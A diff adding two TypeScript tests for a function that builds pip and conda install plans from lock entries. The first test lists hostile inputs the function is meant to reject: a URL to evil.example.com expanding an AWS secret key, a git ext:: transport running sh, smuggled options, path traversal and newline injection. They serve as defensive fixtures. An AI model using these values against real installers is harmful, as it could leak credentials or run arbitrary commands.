@@ -71,6 +71,58 @@ describe('what is installed for a reproduction', () => {
     assert.equal(plan.risks.length, 4)
   })
 
+  it('gives pip no address that it would expand, that runs something, or that it cannot know', () => {
+    const archive = (url: string) => ({ name: 'a', version: '1', from: { kind: 'archive' as const, url } })
+    const vcs = (url: string, more: object = {}) => ({
+      ...{ name: 'v', version: '1' },
+      from: { kind: 'vcs' as const, url, vcs: 'git', commit: 'abc123', ...more },
+    })
+    const evil = [
+      archive(`https://evil.example.com/\${AWS_SECRET_ACCESS_KEY}/a.whl`),
+      archive('https://example.com/a.whl --pre'),
+      archive('https://example.com/a.whl;python_version>"3"'),
+      archive('ftp://example.com/a.whl'),
+      archive('../../elsewhere/a.whl'),
+      vcs('ext::sh -c touch% /tmp/x'),
+      vcs('http://example.com/r'),
+      vcs('https://example.com/r', { vcs: 'cvs' }),
+      vcs('https://example.com/r', { vcs: 'constructor' }),
+      vcs('https://example.com/r', { commit: '-x' }),
+      vcs('https://example.com/r', { subdirectory: '../..' }),
+      vcs('https://example.com/r', { subdirectory: 'x&egg=y' }),
+      { name: 'p', version: '1', from: { kind: 'path' as const, url: 'libs/p --pre' } },
+      { name: 'c', version: '1', from: { kind: 'conda' as const, url: 'https://example.com/c.conda\nhttps://evil' } },
+    ]
+    const plan = installPlan(evil, '/tmp/w')
+    assert.deepEqual([plan.steps, plan.conda, plan.sources], [[], [], []])
+    assert.equal(plan.risks.length, evil.length)
+  })
+
+  it('names every source that is no index, and takes archives of the project from the worktree', () => {
+    const plan = installPlan(
+      [
+        { name: 'numpy', version: '2' },
+        { name: 'own', version: '1', from: { kind: 'editable', url: '.' } },
+        { name: 'wheel-of-ours', version: '1', from: { kind: 'archive', url: 'libs/w-1.whl' } },
+        { name: 'far', version: '1', from: { kind: 'archive', url: 'https://example.com/far-1.whl' } },
+        {
+          name: 'vc',
+          version: '1',
+          from: { kind: 'vcs', url: 'ssh://git@example.com/vc', vcs: 'git', commit: 'abc123' },
+        },
+        { name: 'x', version: '1', from: { kind: 'conda', url: 'https://example.com/forge/linux-64/x-1.conda' } },
+        { name: 'y', version: '1', from: { kind: 'conda', url: 'https://example.com/forge/noarch/y-1.conda' } },
+      ],
+      '/tmp/w',
+    )
+    assert.deepEqual(plan.sources, [
+      'far from https://example.com/far-1.whl',
+      'vc from git+ssh://git@example.com/vc@abc123',
+      "conda's packages from https://example.com/forge",
+    ])
+    assert.ok(plan.steps[0]?.lines.includes('wheel-of-ours @ file:///tmp/w/libs/w-1.whl'))
+  })
+
   it('reads the lock of older writers', () => {
     assert.deepEqual(packagesOfText('numpy==2.3.5\n\n-e odd\nscipy==1.16.3\n'), [
       { name: 'numpy', version: '2.3.5' },
